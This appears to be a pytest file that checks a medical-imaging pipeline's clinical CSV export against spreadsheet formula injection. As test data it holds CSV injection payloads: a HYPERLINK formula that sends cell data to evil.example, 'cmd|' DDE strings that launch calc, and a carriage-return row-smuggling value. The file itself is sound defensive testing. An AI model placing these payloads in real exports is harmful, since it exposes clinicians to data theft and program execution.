"""Formula injection through the clinical CSV (issue 16, 9a): DICOM text fields, folder names and
class labels reach `<stem>.clinical.csv`, which clinicians open in a spreadsheet. A cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula (`=HYPERLINK(...)` sends
data away on a click, `=cmd|...` asks to run a program). Every such cell from data is written with a
leading `'`, readable and inert; the numbers lstmpipe computes stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pydicom
import pytest

from lstmpipe.lib.config import SamplingConfig
from lstmpipe.lib.inference.outputs import outputs_beside
from lstmpipe.lib.inference.predictions import predictions_table, write_predictions
from lstmpipe.lib.sources.discover import discover
from lstmpipe.lib.state.store import LocalStore
from tests.helpers import wheel_data

# pydicom warns that these values break their VRs' rules: an attacker does not follow them either
pytestmark = pytest.mark.filterwarnings("ignore:.*for VR (CS|UI):UserWarning")
SAMPLING = SamplingConfig(fps=None, size=32, chunk_frames=8)
HOSTILE = {
    "SeriesDescription": '=HYPERLINK("http://evil.example/?"&A2,"open")',
    "Modality": "+cmd|' /C calc'!A0",
    "SeriesInstanceUID": "@SUM(1+1)*cmd|'!A0",
    "StudyInstanceUID": "-2+3+cmd|' /C calc'!A0",
}
# a formula after a bare carriage return: a row of its own in a spreadsheet, unless quoted
ROW_BREAK = 'Chest\r=HYPERLINK("http://evil.example/","x")'


def hostile_dicom(folder: Path, name: str, **fields: str) -> None:
    """pydicom's CT_small.dcm with text fields an attacker chose."""
    ds = pydicom.dcmread(wheel_data("pydicom", "pydicom/data/test_files") / "CT_small.dcm")
    for keyword, value in fields.items():
        setattr(ds, keyword, value)
    folder.mkdir(parents=True, exist_ok=True)
    ds.save_as(folder / name)


def clinical_rows(tmp_path: Path, labels: list[str]) -> tuple[str, dict[str, dict[str, str]]]:
    """Discover the source, write predictions for every series, then the clinical CSV through
    `outputs_beside`: its text and its rows by series id."""
    found = discover(tmp_path / "source")
    assert not found.failures, found.failures
    raw = np.random.default_rng(0).random((len(found.refs), len(labels))) + 0.1
    table = predictions_table(
        found.refs,
        raw / raw.sum(axis=1, keepdims=True),
        labels,
        model_name="=model",
        model_version="1",
        recipe_id="r",
        run_id="@run",
    )
    store = LocalStore(tmp_path / "out")
    write_predictions(table, store, "heart-v1.parquet")
    written = outputs_beside(store, "heart-v1.parquet", found.refs, SAMPLING, tmp_path / "tmp")
    text = Path(written["clinical_csv"]).read_bytes().decode()  # CRs as written
    return text, {r["series_id"]: r for r in csv.DictReader(io.StringIO(text))}


def test_hostile_dicom_text_fields_are_written_as_inert_text(tmp_path: Path) -> None:
    hostile_dicom(tmp_path / "source" / "=evil", "a.dcm", **HOSTILE)
    ok = {"SeriesDescription": "Chest -3.5 mm", "SeriesInstanceUID": "1.2.3.4"}
    hostile_dicom(tmp_path / "source" / "ok", "b.dcm", **ok)
    hostile_dicom(tmp_path / "source" / "cr", "c.dcm", SeriesDescription=ROW_BREAK)
    text, rows = clinical_rows(tmp_path, ["\tregular", "irregular"])
    assert len(rows) == 3  # one per series: no row smuggled in
    evil = rows[f"'=evil/{HOSTILE['SeriesInstanceUID']}"]  # the folder name is data too
    # every hostile field is there, readable, behind a quote
    assert evil["description"] == "'" + HOSTILE["SeriesDescription"]
    assert evil["modality"] == "'" + HOSTILE["Modality"]
    assert evil["series_uid"] == "'" + HOSTILE["SeriesInstanceUID"]
    assert evil["study_uid"] == "'" + HOSTILE["StudyInstanceUID"]
    assert evil["model_name"] == "'=model" and evil["run_id"] == "'@run"
    # no cell of any row (the header aside) starts a formula
    starts = ("=", "+", "-", "@", "\t", "\r")
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell.lstrip(" ").startswith(starts)], row
    # an honest row is untouched; numbers computed here stay numbers
    cr = next(r for key, r in rows.items() if key.startswith("cr/"))
    assert cr["description"] == ROW_BREAK  # quoted, so one cell, which starts with text
    honest = rows["ok/1.2.3.4"]
    assert honest["description"] == "Chest -3.5 mm" and honest["modality"] == "CT"
    assert float(honest["probability"]) > 0 and int(honest["frames"]) == 1
    assert honest["predicted_label"] in ("'\tregular", "irregular")


@pytest.mark.parametrize("label", ["-1", "+1", "=1+1", " @x", "\rx"])
def test_a_class_label_from_a_manifest_is_neutralised_too(tmp_path: Path, label: str) -> None:
    hostile_dicom(tmp_path / "source" / "case", "a.dcm")
    _, rows = clinical_rows(tmp_path, [label])
    [row] = rows.values()
    assert row["predicted_label"] == "'" + label
    assert row[f"prob_{label}"] == "1.0"  # a probability: a number, not text
